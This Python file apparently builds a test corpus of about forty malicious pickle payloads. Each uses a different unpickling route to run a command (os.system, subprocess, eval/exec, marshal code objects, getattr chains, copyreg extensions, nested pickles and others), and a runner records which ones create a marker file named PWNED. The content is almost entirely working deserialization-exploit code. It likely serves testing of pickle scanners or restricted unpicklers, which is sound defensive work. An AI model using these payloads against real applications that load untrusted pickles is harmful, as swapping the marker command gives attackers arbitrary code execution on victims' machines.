"""Pickles that make the file PWNED in the working folder where Python's own unpickler reads them.

Run as a script, reads each with that unpickler and prints which did.
"""

import json
import marshal
import os
import pickle
import struct
import sys
import tempfile
import warnings
from pathlib import Path

TOUCH = "touch PWNED"
OPEN = "open('PWNED', 'w').close()"


class Payload:
    """Leaves a mark when it is unpickled."""

    def __reduce__(self) -> tuple[object, ...]:
        return (Path.touch, (Path("PWNED"),))


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


COMMAND = listed(text("touch"), text("PWNED"))
PATH = call("pathlib", "Path", text("PWNED"))
OS = call("importlib", "import_module", text("os"))
SYSTEM = call("builtins", "getattr", OS, text("system"))
TUPLE = b"(" + text(TOUCH) + b"t"
NESTED = pickle.dumps(Payload(), protocol=2)
CODE = marshal.dumps(compile(OPEN, "payload", "exec"))
BUILTINS = call("builtins", "__import__", text("builtins"))
ALL_NAMES = b"}(" + text("__builtins__") + BUILTINS + b"u"
FUNCTION = call("types", "FunctionType", call("marshal", "loads", blob(CODE)), ALL_NAMES)
MAPPED = name("builtins", "map") + b"(" + name("os", "system") + listed(text(TOUCH)) + b"t\x81"

MALICIOUS: dict[str, bytes] = {
    "reduce, protocol 0": pickle.dumps(Payload(), protocol=0)[:-1],
    "reduce, protocol 2": pickle.dumps(Payload(), protocol=2)[:-1],
    "reduce, protocol 4": pickle.dumps(Payload(), protocol=4)[:-1],
    "reduce, protocol 5": pickle.dumps({"a": [Payload()]}, protocol=5)[:-1],
    "os.system": call("os", "system", text(TOUCH)),
    "posix.system": call("posix", "system", text(TOUCH)),
    "os.posix_spawnp": call("os", "waitpid", call("os", "posix_spawnp", text("touch"), COMMAND, b"}"), b"K\x00"),
    "subprocess.run": call("subprocess", "run", COMMAND),
    "subprocess.check_output": call("subprocess", "check_output", COMMAND),
    "eval": call("builtins", "eval", text(OPEN)),
    "exec": call("builtins", "exec", text(OPEN)),
    "exec by its old name": call("__builtin__", "eval", text(OPEN)),
    "exec of compiled code": call("builtins", "exec", call("builtins", "compile", *map(text, (OPEN, "", "exec")))),
    "open": call("builtins", "open", text("PWNED"), text("w")),
    "io.open": call("io", "open", text("PWNED"), text("w")),
    "codecs.open": call("codecs", "open", text("PWNED"), text("w")),
    "io.FileIO": call("io", "FileIO", text("PWNED"), text("w")),
    "getattr": SYSTEM + b"(" + text(TOUCH) + b"tR",
    "getattr chain": call("builtins", "getattr", BUILTINS, text("eval")) + b"(" + text(OPEN) + b"tR",
    "runpy": call("runpy", "_run_code", call("builtins", "compile", *map(text, (OPEN, "", "exec"))), b"}"),
    "attrgetter": call("operator", "attrgetter", text("system")) + b"(" + OS + b"tR(" + text(TOUCH) + b"tR",
    "methodcaller": call("operator", "methodcaller", text("touch")) + b"(" + PATH + b"tR",
    "partial": call("functools", "partial", name("os", "system"), text(TOUCH)) + b")R",
    "starmap": call("builtins", "list", call("itertools", "starmap", name("os", "system"), listed(TUPLE))),
    "function of code": FUNCTION + b")R",
    "nested": call("pickle", "loads", blob(NESTED)),
    "nested in C": call("_pickle", "loads", blob(NESTED)),
    "dotted name": b"\x80\x04" + text("pathlib") + text("Path.touch") + b"\x93(" + PATH + b"tR",
    "__setstate__": call("types", "SimpleNamespace")
    + b"}("
    + text("__setstate__")
    + name("os", "system")
    + b"ub"
    + text(TOUCH)
    + b"b",
    "object opcode": b"(" + name("os", "system") + text(TOUCH) + b"o",
    "instance opcode": b"(" + text(TOUCH) + b"ios\nsystem\n",
    "new object": name("builtins", "bytes") + b"(" + MAPPED + b"t\x81",
    "argument of OrderedDict": name("collections", "OrderedDict") + b"(" + MAPPED + b"tR",
    "extension": call("copyreg", "add_extension", text("os"), text("system"), b"K\x07") + b"0\x82\x07" + TUPLE + b"R",
    "timeit": call("timeit", "timeit", text("pass"), text(OPEN), name("time", "perf_counter"), b"K\x01"),
    "profile": call("cProfile", "run", text(OPEN), text(os.devnull)),
    "shutil": call("shutil", "copyfile", text(os.devnull), text("PWNED")),
    "numpy": call("numpy.testing._private.utils", "runstring", text(OPEN), b"}"),
    "thrown away": call("os", "system", text(TOUCH)) + b"0}",
    "kept in the memo": call("os", "system", text(TOUCH)) + b"q\x000N",
    "a key": b"}" + call("os", "system", text(TOUCH)) + b"Ns",
}


def main() -> None:
    """Prints the names of the pickles that did what they say."""
    warnings.simplefilter("ignore")
    worked = []
    for title, opcodes in MALICIOUS.items():
        with tempfile.TemporaryDirectory() as folder:
            os.chdir(folder)
            try:
                pickle.loads(b"\x80\x02" + opcodes + b".")
            except Exception as error:
                print(f"{title}: {error!r}", file=sys.stderr)
            if Path("PWNED").exists():
                worked.append(title)
            os.chdir("/")
    print(json.dumps(worked))


if __name__ == "__main__":
    main()
